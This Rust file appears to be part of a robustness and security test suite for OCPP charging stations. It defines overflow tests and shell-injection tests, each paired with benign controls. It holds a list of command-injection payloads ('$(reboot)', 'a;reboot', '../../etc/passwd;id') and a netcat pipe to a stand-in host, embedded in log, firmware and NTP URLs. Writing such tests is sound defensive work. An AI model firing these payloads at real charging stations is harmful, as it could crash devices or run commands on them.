//! P01 and P02: what harms a station by being read.

use chargewarden_ocpp::{Side, Version};
use serde_json::{Value, json};

use super::takeover::vendor_setting;
use crate::attack::{ALL, Attack, Entry, Kind, Order, Spot, Twin, V2, order, variables, vendor_data};

const V16: &[Version] = &[Version::V16];

/// The entries.
pub(super) fn entries() -> Vec<Entry> {
    vec![overflow(), shell()]
}

fn a(times: usize) -> String {
    "A".repeat(times)
}

/// P01.
fn overflow() -> Entry {
    Entry {
        id: "P01",
        name: "a field longer than the station has room for",
        versions: ALL,
        kind: Kind::Hard,
        attacks: vec![
            Attack::orders("texts", V16, |at: &Spot| {
                vec![
                    order("GetConfiguration", json!({ "key": [a(500)] })),
                    order("GetConfiguration", json!({ "key": [a(51)] })),
                    order("GetConfiguration", json!({ "key": ["HeartbeatInterval", a(70_000)] })),
                    order("GetConfiguration", json!({ "key": ["\u{1F50C}".repeat(51)] })),
                    at.setting(&a(51), "1"),
                    at.setting("HeartbeatInterval", &a(501)),
                    order("DataTransfer", json!({ "vendorId": a(256) })),
                    order("DataTransfer", json!({ "vendorId": "com.example.listed", "messageId": a(51) })),
                    at.start(1, &a(21)),
                    at.reserve(1, &a(21), 1, 600),
                    order(
                        "SendLocalList",
                        json!({ "listVersion": 2, "updateType": "Differential",
                        "localAuthorizationList": [{ "idTag": a(21) }] }),
                    ),
                    order(
                        "GetLog",
                        json!({ "logType": "SecurityLog", "requestId": 1,
                        "log": { "remoteLocation": format!("https://logs.example.com/{}", a(512)) } }),
                    ),
                    order("CertificateSigned", json!({ "certificateChain": a(10_001) })),
                    order(
                        "InstallCertificate",
                        json!({ "certificateType": "CentralSystemRootCertificate",
                        "certificate": a(5_501) }),
                    ),
                ]
            }),
            Attack::orders("texts in the device model", V2, |at: &Spot| {
                let wide = if at.version == Version::V21 { 2_501 } else { 1_001 };
                vec![
                    order(
                        "GetVariables",
                        json!({ "getVariableData": [{ "component": { "name": a(51) },
                        "variable": { "name": "x" } }] }),
                    ),
                    order(
                        "GetVariables",
                        json!({ "getVariableData": [{ "component": { "name": "x", "instance": a(51) },
                        "variable": { "name": "x" } }] }),
                    ),
                    variables(&[("OCPPCommCtrlr.HeartbeatInterval", &a(wide))]),
                    variables(&[(&format!("OCPPCommCtrlr.{}", a(51)), "1")]),
                    at.start(1, &a(if at.version == Version::V21 { 256 } else { 37 })),
                    at.stop(&a(37)),
                    order("DataTransfer", json!({ "vendorId": a(256) })),
                    at.log("DiagnosticsLog", &format!("https://logs.example.com/{}", a(2_001))),
                    order(
                        "SetDisplayMessage",
                        json!({ "message": { "id": 1, "priority": "NormalCycle",
                        "message": { "format": "ASCII", "content": a(1_025) } } }),
                    ),
                    order(
                        "CustomerInformation",
                        json!({ "requestId": 1, "report": true, "clear": false,
                        "customerIdentifier": a(65) }),
                    ),
                    order("GetLocalListVersion", json!({ "customData": { "vendorId": a(256) } })),
                ]
            }),
            Attack::orders("lists", ALL, |at: &Spot| match at.version {
                Version::V16 => vec![
                    order("GetConfiguration", json!({ "key": vec!["K"; 60_000] })),
                    profile16(at, &vec![json!({ "startPeriod": 0, "limit": 1.0 }); 20_000]),
                ],
                Version::V201 | Version::V21 => vec![
                    order(
                        "GetReport",
                        json!({ "requestId": 1, "componentCriteria": ["Active", "Active", "Active",
                        "Active", "Active"] }),
                    ),
                    order("GetVariables", json!({ "getVariableData": [] })),
                    order("SetVariables", json!({ "setVariableData": [] })),
                    order(
                        "SendLocalList",
                        json!({ "versionNumber": 2, "updateType": "Full",
                        "localAuthorizationList": [] }),
                    ),
                    profile2x(&vec![json!({ "startPeriod": 0, "limit": 1.0 }); 1_025]),
                    order(
                        "SetChargingProfile",
                        json!({ "evseId": 1, "chargingProfile": {
                        "id": 1, "stackLevel": 0, "chargingProfilePurpose": "TxDefaultProfile",
                        "chargingProfileKind": "Relative", "chargingSchedule": vec![json!({ "id": 1,
                            "chargingRateUnit": "W", "chargingSchedulePeriod": [{ "startPeriod": 0, "limit": 1.0 }] }); 4] } }),
                    ),
                ],
            }),
            Attack::new("escaped, so that it looks shorter or longer", ALL, |play| {
                play.campaign(|play, place| {
                    let Some(at) = play.spot(place) else { return };
                    let (open, close) = match at.version {
                        Version::V16 => (r#""GetConfiguration",{"key":[""#, r#""]}]"#),
                        Version::V201 | Version::V21 => (
                            r#""GetVariables",{"getVariableData":[{"component":{"name":""#,
                            r#""},"variable":{"name":"x"}}]}]"#,
                        ),
                    };
                    for (number, unit) in
                        [r"\u0041", r"\n", r"\ud83d\udd0c", r"\\", r"\u0000"].iter().enumerate()
                    {
                        let text = format!("[2,\"esc{number}\",{open}{}{close}", unit.repeat(51));
                        play.strike_text(place, Side::Csms, &text);
                    }
                });
            }),
            Attack::orders("numbers", ALL, |at: &Spot| match at.version {
                Version::V16 => vec![
                    order("RemoteStopTransaction", json!({ "transactionId": 9_223_372_036_854_775_807_i64 })),
                    order("RemoteStopTransaction", json!({ "transactionId": 4_294_967_296_i64 })),
                    order("UnlockConnector", json!({ "connectorId": 2_147_483_648_i64 })),
                    order("UnlockConnector", json!({ "connectorId": -1 })),
                    order("RemoteStopTransaction", json!({ "transactionId": 1.5 })),
                ],
                Version::V201 | Version::V21 => vec![
                    order("UnlockConnector", json!({ "evseId": 2_147_483_648_i64, "connectorId": 1 })),
                    order(
                        "UnlockConnector",
                        json!({ "evseId": 9_223_372_036_854_775_807_i64, "connectorId": 1 }),
                    ),
                    order("GetBaseReport", json!({ "requestId": 1.5, "reportBase": "FullInventory" })),
                ],
            }),
            Attack::new("answers", ALL, |play| {
                play.campaign(|play, place| {
                    let Some(at) = play.spot(place) else { return };
                    for (report, answer) in long_answers(&at) {
                        play.strike_answer(place, &report, &answer);
                    }
                });
            }),
        ],
        twins: vec![
            Twin::orders("texts that just fit", ALL, |at: &Spot| match at.version {
                Version::V16 => vec![
                    order("GetConfiguration", json!({ "key": [a(50)] })),
                    order("GetConfiguration", json!({ "key": ["\u{1F50C}".repeat(50)] })),
                ],
                Version::V201 | Version::V21 => vec![order(
                    "GetVariables",
                    json!({ "getVariableData": [{ "component": { "name": a(50), "instance": a(50) },
                        "variable": { "name": a(50) } }] }),
                )],
            }),
            Twin::new("a token that just fits", ALL, |play| {
                for place in play.one_of_each_where(|spot| spot.free.is_some()) {
                    let Some(at) = play.spot(place) else { continue };
                    let _ = play.work(place, &at.start(at.free.unwrap_or(1), &a(20)));
                    play.wait_s(600);
                }
            }),
        ],
    }
}

fn profile16(at: &Spot, periods: &[Value]) -> Order {
    order(
        "SetChargingProfile",
        json!({ "connectorId": at.evse(), "csChargingProfiles": { "chargingProfileId": 1, "stackLevel": 0,
            "chargingProfilePurpose": "TxDefaultProfile", "chargingProfileKind": "Relative",
            "chargingSchedule": { "chargingRateUnit": "W", "chargingSchedulePeriod": periods } } }),
    )
}

fn profile2x(periods: &[Value]) -> Order {
    order(
        "SetChargingProfile",
        json!({ "evseId": 1, "chargingProfile": { "id": 1, "stackLevel": 0,
            "chargingProfilePurpose": "TxDefaultProfile", "chargingProfileKind": "Relative",
            "chargingSchedule": [{ "id": 1, "chargingRateUnit": "W", "chargingSchedulePeriod": periods }] } }),
    )
}

/// Reports, and answers to them that a station has no room for.
fn long_answers(at: &Spot) -> Vec<(Order, Value)> {
    match at.version {
        Version::V16 => vec![
            (
                order("Authorize", json!({ "idTag": "04A1B2C3" })),
                json!({ "idTagInfo": { "status": "Accepted", "parentIdTag": a(21) } }),
            ),
            (
                order("Heartbeat", json!({})),
                json!({ "currentTime": format!("{}{}", at.now.trim_end_matches('Z'), "0".repeat(4_000)) }),
            ),
        ],
        Version::V201 | Version::V21 => vec![
            (
                order("Authorize", json!({ "idToken": { "idToken": "04A1B2C3", "type": "ISO14443" } })),
                json!({ "idTokenInfo": { "status": "Accepted", "groupIdToken": { "idToken": a(300), "type": "Central" } } }),
            ),
            (
                order("Authorize", json!({ "idToken": { "idToken": "04A1B2C3", "type": "ISO14443" } })),
                json!({ "idTokenInfo": { "status": "Accepted", "personalMessage":
                    { "format": "ASCII", "content": a(1_025) } } }),
            ),
            (
                order("Heartbeat", json!({})),
                json!({ "currentTime": at.now, "customData": { "vendorId": a(256) } }),
            ),
        ],
    }
}

/// What a shell would do something with, in the path of a URL of the right host.
const SHELL: &[&str] = &[
    "`reboot`",
    "$(reboot)",
    "${IFS}",
    "a;reboot",
    "a|reboot",
    "a||reboot",
    "a&reboot",
    "a&&reboot",
    "a>b",
    "a<b",
    "a\nreboot",
    "a\r\nreboot",
    "a b",
    "a\treboot",
    "a'reboot'",
    "a\"reboot\"",
    "a\\reboot",
    "a%0areboot",
    "a%60reboot%60",
    "a%24(reboot)",
    "../../etc/passwd;id",
    "a\u{0}b",
    "a\u{85}b",
    "a\u{2028}b",
    "a#`id`",
    "?x=`id`",
    "-o/etc/cron.d/x;id",
];

/// P02.
fn shell() -> Entry {
    Entry {
        id: "P02",
        name: "a shell command in a URL",
        versions: ALL,
        kind: Kind::Hard,
        attacks: vec![
            Attack::orders("where logs go", ALL, |at: &Spot| {
                let mut orders = Vec::new();
                for tail in SHELL {
                    let location = format!("https://logs.example.com/{tail}");
                    orders.push(at.log("DiagnosticsLog", &location));
                    if at.version == Version::V16 {
                        orders.push(order("GetDiagnostics", json!({ "location": location })));
                    }
                }
                orders
            }),
            Attack::orders("where software comes from", ALL, |at: &Spot| {
                let papers = crate::attack::Papers::get();
                let mut orders = Vec::new();
                for tail in SHELL {
                    let location = format!("https://firmware.example.com/1.9.0/{tail}");
                    orders.push(at.firmware(&location, None));
                    orders.push(at.firmware(&location, Some((&papers.signer, "AAAA"))));
                    if at.version != Version::V16 {
                        orders.push(order(
                            "PublishFirmware",
                            json!({ "location": location,
                            "checksum": "d41d8cd98f00b204e9800998ecf8427e", "requestId": 1 }),
                        ));
                    }
                }
                orders
            }),
            Attack::orders("in host, port and user", ALL, |at: &Spot| {
                [
                    "https://logs.example.com;reboot/",
                    "https://logs.example.com:443;id/",
                    "https://`id`.logs.example.com/",
                    "https://$(id)@logs.example.com/",
                    "https://a:`id`@logs.example.com/",
                    "https://logs.example.com|nc 203.0.113.9 1/",
                    "$(id)://logs.example.com/",
                    "https://logs.example.com/ -o /etc/passwd",
                    "--config=/etc/x https://logs.example.com/",
                ]
                .iter()
                .map(|location| at.log("SecurityLog", location))
                .collect()
            }),
            Attack::new("escaped in the frame", ALL, |play| {
                play.campaign(|play, place| {
                    for (number, escaped) in
                        [r"\u0060id\u0060", r"\u0024(id)", r"a\u003bid", r"a\u000aid", r"a\u007cid"].iter().enumerate()
                    {
                        let text = format!(
                            r#"[2,"sh{number}","GetLog",{{"logType":"SecurityLog","requestId":7,"log":{{"remoteLocation":"https:\/\/logs.example.com\/{escaped}"}}}}]"#
                        );
                        play.strike_text(place, Side::Csms, &text);
                    }
                });
            }),
            Attack::orders("in a setting that a shell reads", ALL, |at: &Spot| {
                let mut orders: Vec<Order> = ["$(reboot)", "ntp.example.com;reboot", "`id`", "a|sh"]
                    .iter()
                    .flat_map(|value| {
                        [vendor_setting(at, "NtpServer", value), vendor_setting(at, "TimeZone", value)]
                    })
                    .collect();
                if at.version != Version::V16 {
                    for value in ["ntp.example.com;reboot", "$(reboot)", "`id`", "ntp.example.com|sh"] {
                        orders.push(variables(&[("ClockCtrlr.NtpServerUri/1", value)]));
                        orders.push(variables(&[("ClockCtrlr.TimeZone", value)]));
                    }
                }
                orders
            }),
            Attack::orders("inside vendor data", ALL, |_: &Spot| {
                let log = json!({ "logType": "SecurityLog", "requestId": 1,
                    "log": { "remoteLocation": "https://logs.example.com/$(id)" } });
                vec![
                    vendor_data("com.example.listed", "GetLog", &log.to_string()),
                    vendor_data(
                        "com.example.listed",
                        "GetDiagnostics",
                        r#"{"location":"ftps://logs.example.com/`id`"}"#,
                    ),
                ]
            }),
        ],
        twins: vec![
            Twin::orders("a log for support", ALL, |at: &Spot| {
                vec![
                    at.log("DiagnosticsLog", "https://logs.example.com/upload/12"),
                    at.log("DiagnosticsLog", "sftp://logs.example.com:2222/cases/2026-03/CS_0042-b.tar.gz"),
                ]
            }),
            Twin::order("a time server", V2, |_: &Spot| {
                variables(&[("ClockCtrlr.NtpServerUri/1", "ntp.example.com")])
            }),
        ],
    }
}
